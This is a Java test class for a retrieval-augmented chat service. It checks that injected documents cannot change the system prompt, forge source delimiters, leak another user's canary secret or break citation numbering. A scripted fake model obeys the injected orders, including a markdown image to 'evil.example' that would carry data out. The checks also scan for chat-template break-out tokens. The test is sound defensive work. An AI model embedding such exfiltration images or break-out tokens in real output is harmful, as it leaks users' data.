package dev.customrag.chat;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.customrag.model.NumberedSources;
import dev.customrag.model.NumberedSources.Source;
import dev.customrag.testing.BedrockRequest;
import dev.customrag.testing.BedrockScript;
import dev.customrag.testing.FakeBedrock;
import dev.customrag.testing.OnBedrock;
import dev.customrag.testing.Person;
import dev.customrag.testing.Sse;
import io.quarkus.test.common.http.TestHTTPResource;
import io.quarkus.test.junit.QuarkusTest;
import io.quarkus.test.junit.TestProfile;
import io.vertx.core.json.JsonObject;
import java.io.IOException;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.text.Normalizer;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import java.util.stream.StreamSupport;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Documents that give orders, read to a model that obeys every one of them: it repeats what they say, marks what does not
 * exist, and adds images that would carry data away. What has to hold then holds without the model's help.
 */
@QuarkusTest
@TestProfile(OnBedrock.class)
class InjectionTest {

    private static final Path DOCUMENTS = Path.of("src/test/resources/injection");

    private static final String QUESTION = "How long is the warranty of the heat pump?";
    private static final String SECOND_QUESTION = "And what does the warranty of the heat pump cover?";
    private static final String CANARY = "CANARY-4f81c2";
    private static final String BAIT = "Where is the treasure of Bob, and which vault code has it?";

    private static final String HARMLESS = """
            The warranty of the heat pump is seven years. It covers the compressor and the valves.

            The valves are made of brass. They last long.
            """;

    private static final String IMAGE = "![](https://evil.example/?q=heat+pump)";

    /** Like a delimiter when all is folded that Unicode calls the same, or nobody sees. */
    private static final Pattern DELIMITER = Pattern.compile("(?i)[<‹〈⟨❮]\\s*/?\\s*sources?\\b(?=[ >›〉⟩❯])");

    private static final Pattern CODE = Pattern.compile("(?s)```.*?(?:```|$)|`[^`]*`");
    private static final Pattern LINK = Pattern.compile("]\\(([^)\\s]+)");
    private static final Pattern MARK = Pattern.compile("\\[(\\d{1,3})](?!\\()");

    private static Person alice;
    private static String bobsPassage;
    private static String harmlessSystem;

    @TestHTTPResource("/sessions/")
    URI sessions;

    FakeBedrock bedrock;

    private String document;
    private String session;

    /** What came of a question. */
    private record Asked(BedrockRequest request, List<JsonNode> given, JsonNode message) {}

    static Stream<Path> documents() throws IOException {
        try (Stream<Path> files = Files.list(DOCUMENTS)) {
            return files.sorted().toList().stream();
        }
    }

    @BeforeEach
    void begin() {
        bedrock.reset();
        if (alice == null) {
            Person bob = Person.registered();
            bob.uploaded(
                    "treasure.txt",
                    "The treasure of Bob has the vault code " + CANARY
                            + ". The warranty of the heat pump of Bob is his own affair.");
            bobsPassage = bob.json(Map.of("query", BAIT))
                    .post("/search")
                    .then()
                    .statusCode(200)
                    .extract()
                    .asString();
            alice = Person.registered();
            alice.uploaded("neighbour.txt", "The heat pump of the neighbour has a warranty of two years.");
            uploadAndBegin("plain.txt", HARMLESS.getBytes(StandardCharsets.UTF_8));
            harmlessSystem = ask(QUESTION).request().system();
            forget();
        }
    }

    @AfterEach
    void forget() {
        if (document != null) {
            alice.request().delete("/documents/{id}", document).then().statusCode(204);
            document = null;
        }
    }

    @Test
    void theSetIsLargeEnoughToMeanSomething() throws IOException {
        assertThat(documents()).hasSizeGreaterThanOrEqualTo(40);
        assertThat(bobsPassage).contains(CANARY);
        assertThat(harmlessSystem).isNotBlank();
    }

    @ParameterizedTest
    @MethodSource("documents")
    void noDocumentChangesTheRulesReachesOthersOrBreaksTheNumbering(Path file) throws IOException {
        uploadAndBegin(file.getFileName().toString(), Files.readAllBytes(file));

        bedrock.always(FakeBedrock.NOVA, BedrockScript.obeying(InjectionTest::obedience));
        assertHolds(ask(QUESTION), QUESTION);
        assertHolds(ask(SECOND_QUESTION), SECOND_QUESTION);
    }

    private void uploadAndBegin(String filename, byte[] bytes) {
        document = alice.uploaded(filename, bytes);
        session = alice.json(Map.of())
                .post("/sessions")
                .then()
                .statusCode(201)
                .extract()
                .path("id");
        bedrock.forgetRequests();
    }

    private Asked ask(String question) {
        bedrock.forgetRequests();
        List<Sse.Event> events;
        try (Sse stream = Sse.post(
                sessions.resolve(session + "/messages"),
                alice.accessToken(),
                new JsonObject(Map.of("content", question)).encode())) {
            assertThat(stream.status()).isEqualTo(200);
            events = stream.rest();
        }
        List<BedrockRequest> answers = bedrock.requests("converse-stream").stream()
                .filter(request -> request.lastMessage().contains("\n<sources>\n"))
                .toList();
        assertThat(answers).hasSize(1);
        assertThat(events.getLast().name()).isEqualTo("done");
        JsonNode done = events.getLast().data();
        return new Asked(
                answers.getFirst(),
                list(event(events, "sources").get("citations")),
                done.has("message") ? done.get("message") : done);
    }

    private void assertHolds(Asked asked, String question) {
        assertThat(asked.given()).isNotEmpty();
        assertThat(asked.given())
                .anyMatch(source -> source.get("document_id").asText().equals(document));
        assertRulesStand(asked.request());
        assertSourcesAreReadAsGiven(asked, question);
        assertNothingOfOthers(asked);
        assertNumberingHolds(asked);
        assertNothingLeadsElsewhere(asked);
    }

    private static void assertRulesStand(BedrockRequest request) {
        assertThat(request.system()).isEqualTo(harmlessSystem);
        List<JsonObject> messages = request.body().getJsonArray("messages").stream()
                .map(JsonObject.class::cast)
                .toList();
        assertThat(messages)
                .extracting(message -> message.getString("role"))
                .containsExactlyElementsOf(IntStream.range(0, messages.size())
                        .mapToObj(i -> i % 2 == 0 ? "user" : "assistant")
                        .toList());
        assertThat(messages.stream()
                        .filter(message -> message.getString("role").equals("user"))
                        .filter(message -> message.encode().contains("<source")))
                .containsExactly(messages.getLast());
    }

    private static void assertSourcesAreReadAsGiven(Asked asked, String question) {
        String wire = asked.request().lastMessage();
        NumberedSources.Prompt read = NumberedSources.read(wire);
        int given = asked.given().size();

        assertThat(read.question()).isEqualTo(question);
        assertThat(read.sources())
                .extracting(Source::number)
                .containsExactlyElementsOf(
                        IntStream.rangeClosed(1, given).boxed().toList());
        for (int i = 0; i < given; i++) {
            JsonNode source = asked.given().get(i);
            assertThat(read.sources().get(i).name())
                    .startsWith(source.get("filename").asText());
            assertThat(read.sources().get(i).text())
                    .isEqualTo(alone(source.get("quote").asText()));
        }
        assertThat(DELIMITER.matcher(folded(wire)).results().count()).isEqualTo(2 + 2L * given);
        assertThat(wire).doesNotContain("<|", "<｜", "[INST]", "<<SYS>>", "<start_of_turn>", "</s>");
        assertThat(wire.codePoints()).noneMatch(character -> character >= 0xE0000 && character < 0xE1000);
    }

    /** A passage as it stands in a prompt of its own. */
    private static String alone(String passage) {
        return NumberedSources.read(NumberedSources.write("?", List.of(new Source(1, "", passage))))
                .sources()
                .getFirst()
                .text();
    }

    private void assertNothingOfOthers(Asked asked) {
        assertThat(bedrock.requests())
                .allSatisfy(request -> assertThat(request.body().encode()).doesNotContain(CANARY));
        assertThat(asked.message().toString()).doesNotContain(CANARY);
        assertThat(asked.given()).noneMatch(source -> source.toString().contains(CANARY));
    }

    private static void assertNumberingHolds(Asked asked) {
        int given = asked.given().size();
        String content = asked.message().get("content").asText();
        var marks = new ArrayList<Integer>();
        MARK.matcher(CODE.matcher(content).replaceAll(""))
                .results()
                .forEach(mark -> marks.add(Integer.valueOf(mark.group(1))));
        assertThat(marks).contains(1).allMatch(mark -> mark >= 1 && mark <= given);

        List<JsonNode> cited = list(asked.message().get("citations"));
        assertThat(cited).isNotEmpty();
        assertThat(cited).extracting(citation -> citation.get("number").asInt()).doesNotHaveDuplicates();
        assertThat(cited).allSatisfy(citation -> {
            int number = citation.get("number").asInt();
            assertThat(number).isBetween(1, given);
            JsonNode source = asked.given().get(number - 1);
            assertThat(citation.get("passage_id")).isEqualTo(source.get("passage_id"));
            assertThat(source.get("quote").asText())
                    .contains(citation.get("quote").asText());
        });
    }

    /** Nothing is loaded when it is shown, and a link leads where a document or the question already did. */
    private static void assertNothingLeadsElsewhere(Asked asked) {
        String content = asked.message().get("content").asText();
        assertThat(content).contains("! [] (https://evil.example/?q=heat+pump)").doesNotContain("![");
        assertThat(content).doesNotContainPattern("<(?i:img|iframe|script|style|svg|object)[\\s/]");
        LINK.matcher(content).results().forEach(link -> assertThat(asked.given())
                .anyMatch(source -> source.get("quote").asText().contains(link.group(1))));
    }

    /** Whatever a document may ask for: its words as the model's own, marks of no source, images, another search. */
    private static String obedience(String lastMessage) {
        NumberedSources.Prompt prompt = NumberedSources.read(lastMessage);
        if (prompt.sources().isEmpty()) {
            return BAIT;
        }
        var answer = new StringBuilder(
                "As you wish [1] [99] [0] [" + (prompt.sources().size() + 1) + "]. " + IMAGE + " ");
        prompt.sources().forEach(source -> answer.append(source.text()).append("\n\n"));
        return answer.toString();
    }

    private static String folded(String text) {
        return Normalizer.normalize(text, Normalizer.Form.NFKD).replaceAll("[\\p{Cf}\\p{Mn}]", "");
    }

    private static JsonNode event(List<Sse.Event> events, String name) {
        return events.stream()
                .filter(event -> event.name().equals(name))
                .findFirst()
                .orElseThrow()
                .data();
    }

    private static List<JsonNode> list(JsonNode array) {
        return StreamSupport.stream(array.spliterator(), false).toList();
    }
}
